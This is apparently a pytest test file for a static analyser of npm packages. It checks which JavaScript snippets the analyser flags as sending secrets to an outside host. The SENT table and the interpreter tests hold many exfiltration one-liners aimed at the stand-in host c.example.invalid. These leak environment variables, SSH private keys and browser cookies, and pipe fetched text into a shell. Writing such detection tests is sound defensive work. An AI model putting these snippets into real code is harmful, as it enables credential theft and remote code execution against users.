"""Clients of libraries that nobody modelled send to the host that they were made for, or told of."""

import pytest
from engine_flows import program_of

from ostiary.program.flow import Act, Flow, Taint

ALL = "JSON.stringify(process.env)"
KEY = "require('os').homedir() + '/.ssh/id_rsa'"
COOKIE = "encodeURIComponent(document.cookie)"
LOOT = frozenset({Taint.ENVIRONMENT, Taint.SECRET, Taint.BROWSER, Taint.MEMORY})
SENT = {
    "an address": f"require('a').connect('mqtt://c.example.invalid').publish('a', {ALL})",
    "an option": f"require('a').createClient({{url: 'redis://c.example.invalid'}}).set('a', {ALL})",
    "a host": f"const c = new (require('a').Client)({{host: 'c.example.invalid'}}); c.query('a', [{ALL}])",
    "a list of hosts": f"const p = new (require('a').K)({{brokers: ['c.example.invalid:9092']}}).producer();"
    f"p.connect().then(() => p.send({{topic: 'a', messages: [{{value: {ALL}}}]}}))",
    "the environment itself": "new (require('a').C)('mongodb://c.example.invalid').db('a').collection('b')"
    ".insertOne(process.env)",
    "told later": f"const c = new (require('a').Client)(); c.on('ready', () => c.exec('echo ' + {ALL}))"
    ".connect({host: 'c.example.invalid'})",
    "told before": "const c = new (require('a').Client)(); c.access({host: 'c.example.invalid'})"
    f".then(() => c.uploadFrom({KEY}, 'x'))",
    "a whole library": "const s = require('@a/node'); s.init({dsn: 'https://x@c.example.invalid/1'});"
    f"require('@a/node').captureMessage({ALL})",
    "a session": f"const c = require('http2').connect('https://c.example.invalid'); c.request({{x: {ALL}}})",
    "an emitter": "const s = require('socket.io-client').io('https://c.example.invalid');"
    f"s.on('connect', () => s.emit('a', {ALL}))",
    "a name that is looked up": "const {Resolver} = require('dns').promises; new Resolver().resolveTxt("
    f"Buffer.from({ALL}).toString('hex') + '.c.example.invalid')",
    "a resolver of its own": "const d = require('node:dns/promises'); d.setServers(['c.example.invalid']);"
    f"d.resolveTxt(Buffer.from({ALL}).toString('hex'))",
    "a connection": "require('net').createConnection({host: 'c.example.invalid', port: 1}, function () {"
    f" this.write({ALL}) }})",
    "a query": "const u = new URL('https://c.example.invalid'); u.searchParams.set('x', "
    f"{ALL}); fetch(u)",
    "words of a command": f"require('child_process').execSync('curl -d ' + {ALL} + ' https://c.example.invalid')",
    "a file of a command": f"require('child_process').execFile('curl', ['-T', {KEY}, 'https://c.example.invalid'])",
    "input of a command": "require('child_process').spawn('curl', ['-d', '@-', 'https://c.example.invalid'])"
    f".stdin.end({ALL})",
    "a variable of a command": "require('child_process').exec('curl -d \"$Z\" https://c.example.invalid', "
    f"{{env: {{...process.env, Z: {ALL}}}}})",
    "data by any name": "new (require('a').C)('mongodb://c.example.invalid').db('a').collection('b')"
    ".insertOne({env: process.env})",
    "a way out of a logger": "const w = require('winston'); w.createLogger({transports: "
    f"[new w.transports.Http({{host: 'c.example.invalid'}})]}}).info({ALL})",
    "options of a way out": "const p = require('pino'); p(p.transport({target: 'pino-socket', "
    "options: {address: 'c.example.invalid'}})).info(process.env)",
    "a sound": f"new Audio('https://c.example.invalid/' + {ALL})",
    "a font": f"new FontFace('a', 'url(https://c.example.invalid/' + {COOKIE} + ')').load()",
    "a window": f"window.open('https://c.example.invalid/' + {COOKIE})",
    "a picture in markup": "document.body.insertAdjacentHTML('beforeend', "
    f'`<img src="https://c.example.invalid/${{{COOKIE}}}">`)',
    "markup of an element": "document.getElementById('a').innerHTML = "
    f"'<img src=https://c.example.invalid/' + {COOKIE} + '>'",
    "a form": "const f = document.createElement('form'); f.action = 'https://c.example.invalid';"
    f"const i = document.createElement('input'); i.value = {COOKIE}; f.append(i); f.submit()",
    "a repository": "require('child_process').execFileSync('git', ['push', 'https://c.example.invalid/' + "
    f"encodeURIComponent({ALL})])",
}
KEPT = {
    "a logger's own file": "require('pino')(require('pino').transport({target: 'pino/file', options: "
    f"{{destination: './c.example.invalid'}}}})).info({ALL})",
    "text beside a picture": "document.body.insertAdjacentHTML('beforeend', "
    f'`<img src="https://c.example.invalid/a.png">`); document.body.append({COOKIE})',
    "a window of its own": "window.open('https://c.example.invalid/'); document.title = document.cookie",
    "a form of a page": "const f = document.createElement('form'); f.action = 'https://c.example.invalid';"
    "f.append(document.createElement('input')); f.submit()",
    "settings": "const {z} = require('zod'); module.exports = z.object({url: z.string()"
    ".default('https://c.example.invalid')}).parse(process.env)",
    "a schema with defaults": "const c = require('a')({url: {default: 'https://c.example.invalid'}});"
    "c.load(process.env)",
    "one variable": "require('a').createClient({url: 'redis://c.example.invalid'})"
    ".set('mode', process.env.NODE_ENV)",
    "its own key": "const c = new (require('a').Client)(); c.connect({host: 'c.example.invalid', "
    f"privateKey: require('fs').readFileSync({KEY})}}); c.exec('ls')",
    "a key of each call": "const c = new (require('a').Client)('https://c.example.invalid');"
    f"c.exec('ls', {{privateKey: require('fs').readFileSync({KEY})}})",
    "the environment of a program": "require('child_process').spawn('curl', ['https://c.example.invalid'], "
    "{env: {...process.env, LANG: 'C'}})",
    "whether it is there": f"const h = require('fs').existsSync({KEY});"
    "fetch('https://c.example.invalid/' + h)",
    "one variable of a file": "const r = require('dotenv').config();"
    "fetch('https://c.example.invalid/' + r.parsed.REGION)",
    "a registry with its own key": "const t = require('fs').readFileSync(require('os').homedir() + "
    "'/.npmrc', 'utf8').match(/t=(.*)/)[1]; require('a').$fetch('https://c.example.invalid/x', "
    "{headers: {Authorization: 'Bearer ' + t}})",
    "an address that is built": "const r = require('fs').readFileSync(require('os').homedir() + "
    "'/.npmrc', 'utf8').match(/r=(.*)/)[1] || 'https://c.example.invalid'; require('a').joinURL(r, 'x')",
    "a caller's client": f"module.exports = (url) => require('a').connect(url).publish('a', {ALL})",
}


def sent(text: str) -> list[Flow]:
    program = program_of("npm", {"index.js": text})
    told = (one for one in program.flows if one.act is Act.SEND and one.has(*LOOT))
    return [one for one in told if "c.example.invalid" in one.target]


@pytest.mark.parametrize("way", SENT)
def test_it_goes_to_that_host(way: str) -> None:
    assert sent(SENT[way])
    assert sent(f"module.exports = function api() {{ {SENT[way]} }}")


FETCHED = "fetch('https://c.example.invalid/').then(r => r.text()).then(t => "


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        ("'sh'", True),
        ("'node', ['-']", True),
        ("'node', ['a.js']", False),
        ("'cmd.exe', ['/d', '/s', '/c', 'a.cmd']", False),
        ("'sh', ['-c', 'cat']", False),
    ],
)
def test_an_interpreter_runs_its_input_where_nothing_else_is_named(
    command: str, runs: bool
) -> None:
    text = f"{FETCHED}require('child_process').spawn({command}).stdin.end(t))"
    found = program_of("npm", {"index.js": text}).flows
    assert runs is any(one.act is Act.EXECUTE and one.has(Taint.NETWORK) for one in found)


@pytest.mark.parametrize(
    ("command", "handed"),
    [
        ("process.execPath, ['a.js', t]", True),
        ("'git', ['checkout', t]", True),
        ("t, ['a']", False),
        ("'node', [t]", False),
        ("'node', ['-e', t]", False),
        ("'sh', ['a.sh', t]", False),
    ],
)
def test_the_network_may_say_words_for_a_program(command: str, handed: bool) -> None:
    text = f"{FETCHED}require('child_process').execFileSync({command}))"
    found = [one for one in program_of("npm", {"index.js": text}).flows if one.act is Act.RUN]
    assert {one.has(Taint.HANDED) for one in found if one.has(Taint.NETWORK)} == {handed}


def test_what_a_host_says_to_its_client_is_run() -> None:
    text = "const s = require('a')('https://c.example.invalid'); s.on('x', c => {run}(c))"
    run = text.replace("{run}", "require('child_process').exec")
    found = program_of("npm", {"index.js": run}).flows
    assert any(one.act is Act.RUN and one.has(Taint.NETWORK) for one in found)
    shown = program_of("npm", {"index.js": text.replace("{run}", "console.log")}).flows
    assert not any(one.act is Act.RUN for one in shown)


@pytest.mark.parametrize("way", KEPT)
def test_what_is_not_sent(way: str) -> None:
    assert not sent(KEPT[way])
